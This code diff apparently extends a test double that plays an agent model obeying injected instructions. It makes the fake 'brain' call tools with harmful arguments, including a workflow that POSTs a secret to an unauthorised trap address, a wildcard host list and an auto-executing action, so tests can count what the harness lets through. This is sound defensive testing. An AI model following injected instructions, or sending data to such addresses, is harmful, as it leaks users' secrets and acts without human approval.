@@ -27,6 +27,17 @@ final class ObedientBrain implements Brain {
     private static final List<String> NOT_OFFERED = List.of("leave_mark", "call_http", "send_email", "run_workflow");
     private static final int ROUNDS = 2;
 
+    private static final String WORKFLOW = """
+            - id: call
+              http: {method: POST, url: "TRAP", body: {secret: "NOTE"}}
+            - id: mark
+              tool: leave_mark
+              with: {note: "NOTE"}
+            """;
+
+    /** An address that nobody granted; tests count who comes. */
+    static volatile String trap = "http://127.0.0.1:9/";
+
     /** How often each instruction was obeyed. */
     static final Map<String, AtomicInteger> OBEYED = new LinkedHashMap<>();
 
@@ -71,6 +82,21 @@ final class ObedientBrain implements Brain {
                 .reduce("", (a, b) -> b.length() > a.length() ? b : a);
     }
 
+    /** As harmful as the tool's schema lets them be: calls to an address, effects without a person. */
+    private static JsonNode arguments(String tool, String note) {
+        var arguments = Json.MAPPER.createObjectNode();
+        return switch (tool) {
+            case "run_workflow" ->
+                arguments
+                        .put("workflow", WORKFLOW.replace("TRAP", trap).replace("NOTE", note))
+                        .set("hosts", Json.MAPPER.createArrayNode().add("*").add("127.0.0.1"));
+            case "query_prometheus" -> arguments.put("prometheus_url", trap).put("query", "up");
+            case "propose_actions" ->
+                arguments.put("service", note).put("execute", true).put("action_url", trap);
+            default -> arguments.put("note", note);
+        };
+    }
+
     boolean isTold(JsonNode request) {
         return instruction(request).isPresent();
     }
@@ -101,7 +127,7 @@ final class ObedientBrain implements Brain {
                 .forEach(name -> calls.add(new Block.ToolUse(
                         "toolu_" + rounds + "_" + calls.size(),
                         name,
-                        Json.MAPPER.createObjectNode().put("note", "obeyed: " + plain(instruction)))));
+                        arguments(name, "obeyed: " + plain(instruction)))));
         return Reply.calls(calls.toArray(Block.ToolUse[]::new));
     }
 }
